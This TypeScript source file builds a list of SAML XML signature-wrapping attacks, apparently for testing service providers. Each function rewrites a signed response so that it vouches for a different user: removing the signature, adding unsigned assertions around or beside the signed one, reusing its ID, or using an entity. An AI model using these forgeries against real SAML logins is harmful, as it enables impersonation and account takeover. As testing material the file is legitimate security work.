const assertionOf = (xml: string): string => /<saml:Assertion .*<\/saml:Assertion>/s.exec(xml)?.[0] ?? "";
const signatureOf = (xml: string): string => /<ds:Signature .*?<\/ds:Signature>/s.exec(xml)?.[0] ?? "";
const put = (xml: string, replacement: string): string => xml.replace(assertionOf(xml), () => replacement);

/** What becomes of a signed response; the name of the attack ends "an assertion for another user …". */
type Wrapping = [name: string, change: (xml: string) => string];

/**
 * Attacks on the signature of a company's response, by whom it vouches for.
 * @param own NameID of the attacker, in the signed response; @param other whom the attacker wants to be
 */
export function wrappings(own: string, other: string): Wrapping[] {
  const renamed = (xml: string) => xml.replace(`>${own}<`, `>${other}<`);
  /** An unsigned assertion with another ID for the other user. */
  const evil = (xml: string): string =>
    renamed(
      assertionOf(xml)
        .replace(signatureOf(xml), "")
        .replace(/ ID="[^"]*"/, ' ID="_evil"'),
    );
  return [
    ["without a signature", (xml) => put(xml, evil(xml))],
    ["with the name changed", (xml) => renamed(xml)],
    ["before the signed one", (xml) => put(xml, evil(xml) + assertionOf(xml))],
    ["after the signed one", (xml) => put(xml, assertionOf(xml) + evil(xml))],
    [
      "around the signed one",
      (xml) =>
        put(
          xml,
          evil(xml).replace("</saml:Assertion>", () => `${assertionOf(xml)}</saml:Assertion>`),
        ),
    ],
    [
      "with the signature of the one inside it",
      (xml) => {
        const inner = assertionOf(xml).replace(signatureOf(xml), "");
        const signature = signatureOf(xml).replace(
          "</ds:Signature>",
          () => `<ds:Object>${inner}</ds:Object></ds:Signature>`,
        );
        return put(
          xml,
          evil(xml).replace("<saml:Subject>", () => `${signature}<saml:Subject>`),
        );
      },
    ],
    [
      "beside the signed one in an extension",
      (xml) =>
        put(xml, evil(xml)).replace(
          "<samlp:Status>",
          () => `<samlp:Extensions>${assertionOf(xml)}</samlp:Extensions><samlp:Status>`,
        ),
    ],
    [
      "with the ID of the signed one",
      (xml) => {
        const [, id = ""] = / ID="([^"]*)"/.exec(assertionOf(xml)) ?? [];
        return put(xml, evil(xml).replace("_evil", id) + assertionOf(xml));
      },
    ],
    [
      "inside the signed one, which is moved into the response's signature",
      (xml) =>
        put(
          xml,
          `${evil(xml)}<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:Object>${assertionOf(xml)}</ds:Object></ds:Signature>`,
        ),
    ],
    ["in an entity", (xml) => `<!DOCTYPE a [<!ENTITY who "${other}">]>${xml.replace(`>${own}<`, ">&who;<")}`],
  ];
}
